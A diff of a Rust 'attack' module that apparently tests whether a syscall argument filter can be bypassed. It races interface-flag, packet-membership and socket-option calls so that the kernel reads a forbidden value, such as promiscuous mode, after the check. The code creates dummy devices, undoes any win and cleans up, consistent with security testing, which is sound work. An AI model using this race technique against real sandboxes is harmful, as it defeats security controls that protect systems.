@@ -7,23 +7,25 @@ use super::Try;
 use super::arena::Arena;
 use crate::attack::abi::{Number, call};
 use crate::attack::ioctl::{self, Family};
-use crate::attack::packet::{Membership, drop_membership, packet_socket};
-use crate::attack::sockopt::udp_socket;
+use crate::attack::packet::{MREQ_LEN, PACKET_DROP_MEMBERSHIP, packet_socket};
+use crate::attack::sockopt::{set_bytes, udp_socket};
 use crate::attack::{Abi, IFF_PROMISC, IFF_UP, SocketOption, index_of};
-use crate::device::promiscuity;
+use crate::device::FlagsFile;
 use crate::make;
 
 const SIOCSIFFLAGS: usize = 0x8914;
 const PACKET_ADD_MEMBERSHIP: usize = 1;
+const PACKET_MR_MULTICAST: u32 = 0;
 const PACKET_MR_PROMISC: u32 = 1;
-const PACKET_MR_ALLMULTI: u32 = 2;
+/// `mr_alen`, which shares the word with `mr_type`: that of an Ethernet address.
+const ETHERNET: u32 = 6 << 16;
 
 /// A racy call.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum Target {
     /// `ifr_flags` of `SIOCSIFFLAGS`: `IFF_PROMISC` comes and goes.
     Flags,
-    /// `mr_type` of `PACKET_ADD_MEMBERSHIP`: promiscuous, or all multicast.
+    /// `mr_type` of `PACKET_ADD_MEMBERSHIP`: promiscuous, or one multicast address.
     Membership,
     /// The value of `SO_PRIORITY`: 7 or 5.
     Priority,
@@ -49,7 +51,10 @@ impl Target {
     pub fn words(self) -> [u32; 2] {
         match self {
             Self::Flags => [IFF_UP, IFF_UP | IFF_PROMISC],
-            Self::Membership => [PACKET_MR_ALLMULTI, PACKET_MR_PROMISC],
+            Self::Membership => [
+                PACKET_MR_MULTICAST | ETHERNET,
+                PACKET_MR_PROMISC | ETHERNET,
+            ],
             Self::Priority => [5, 7],
             Self::Mark => [12, 13],
         }
@@ -58,6 +63,10 @@ impl Target {
     /// Whether the struct has something before the word, at which the kernel's
     /// copy can be held up.
     pub fn can_be_stalled(self) -> bool {
+        matches!(self, Self::Flags | Self::Membership)
+    }
+
+    fn has_a_device(self) -> bool {
         matches!(self, Self::Flags | Self::Membership)
     }
 
@@ -75,6 +84,8 @@ impl Target {
 pub struct Attacker {
     target: Target,
     device: String,
+    index: u32,
+    flags: Option<FlagsFile>,
     socket: OwnedFd,
     /// The struct.
     pub arena: Arena,
@@ -84,17 +95,18 @@ impl Attacker {
     /// Makes what the call is about. Devices end with [`Attacker::remove`].
     pub fn new(target: Target, number: usize) -> io::Result<Self> {
         let device = format!("bypassvictim{number}");
+        let (mut index, mut flags) = (0, None);
+        if target.has_a_device() {
+            make::dummy(&device)?;
+            index = index_of(&device)?;
+            flags = Some(FlagsFile::open(&device)?);
+        }
         let (socket, before) = match target {
             Target::Flags => {
-                make::dummy(&device)?;
                 let request = ioctl::Request::about(&device)?;
                 (Family::Inet.socket()?, request.bytes()[..16].to_vec())
             }
-            Target::Membership => {
-                make::dummy(&device)?;
-                let index = index_of(&device)?.to_ne_bytes();
-                (packet_socket()?, index.to_vec())
-            }
+            Target::Membership => (packet_socket()?, index.to_ne_bytes().to_vec()),
             Target::Priority | Target::Mark => (udp_socket()?, Vec::new()),
         };
         let arena = Arena::new(&before)?;
@@ -102,6 +114,8 @@ impl Attacker {
         Ok(Self {
             target,
             device,
+            index,
+            flags,
             socket,
             arena,
         })
@@ -144,50 +158,51 @@ impl Attacker {
 
     /// Looks from outside, and undoes what a win has done.
     fn look(&mut self) -> io::Result<Try> {
-        let won = match self.target {
-            Target::Flags => {
-                let won = ioctl::flags(&self.device)? & IFF_PROMISC != 0;
-                if won {
-                    ioctl::set_flags(Family::Inet, &self.device, IFF_UP)?;
-                }
-                won
-            }
-            Target::Membership => {
-                let won = promiscuity(&self.device)? > 0;
-                self.leave()?;
-                won
-            }
-            Target::Priority | Target::Mark => self.look_at_option()?,
+        let won = match &self.flags {
+            Some(flags) => flags.read()? & IFF_PROMISC != 0,
+            None => self.option_is_the_other()?,
         };
+        match self.target {
+            Target::Flags if won => ioctl::set_flags(Family::Inet, &self.device, IFF_UP)?,
+            Target::Membership => self.leave(won)?,
+            Target::Priority | Target::Mark if won => self.set_option_back()?,
+            _ => {}
+        }
         Ok(if won { Try::Won } else { Try::Passed })
     }
 
-    /// Drops whichever membership was joined. Closing the socket would, too, but
-    /// waits until no processor uses it any more (`packet_release`).
-    fn leave(&self) -> io::Result<()> {
-        let index = index_of(&self.device)?;
-        [Membership::AllMulticast, Membership::Promiscuous]
-            .into_iter()
-            .try_for_each(|kind| drop_membership(self.socket.as_fd(), index, kind))
+    /// Drops the membership. Closing the socket would, too, but waits until no
+    /// processor uses it any more (`packet_release`).
+    fn leave(&self, won: bool) -> io::Result<()> {
+        let word = self.target.words()[usize::from(won)];
+        let mut request = [0; MREQ_LEN];
+        request[..4].copy_from_slice(&self.index.to_ne_bytes());
+        request[4..8].copy_from_slice(&word.to_ne_bytes());
+        let socket = self.socket.as_fd();
+        set_bytes(socket, libc::SOL_PACKET, PACKET_DROP_MEMBERSHIP, &request)
     }
 
-    fn look_at_option(&self) -> io::Result<bool> {
+    fn option_is_the_other(&self) -> io::Result<bool> {
+        let other = self.target.words()[1].cast_signed();
         let Some(option) = self.target.option() else {
             return Ok(false);
         };
-        let [harmless, other] = self.target.words().map(u32::cast_signed);
-        let won = option.get(self.socket.as_fd())? == other;
-        if won {
-            option.set(self.socket.as_fd(), harmless)?;
-        }
-        Ok(won)
+        Ok(option.get(self.socket.as_fd())? == other)
+    }
+
+    fn set_option_back(&self) -> io::Result<()> {
+        let harmless = self.target.words()[0].cast_signed();
+        let Some(option) = self.target.option() else {
+            return Ok(());
+        };
+        option.set(self.socket.as_fd(), harmless)
     }
 
     /// Removes its device.
     pub fn remove(&self) -> io::Result<()> {
-        match self.target {
-            Target::Flags | Target::Membership => crate::attack::link::delete(&self.device),
-            _ => Ok(()),
+        if !self.target.has_a_device() {
+            return Ok(());
         }
+        crate::attack::link::delete(&self.device)
     }
 }
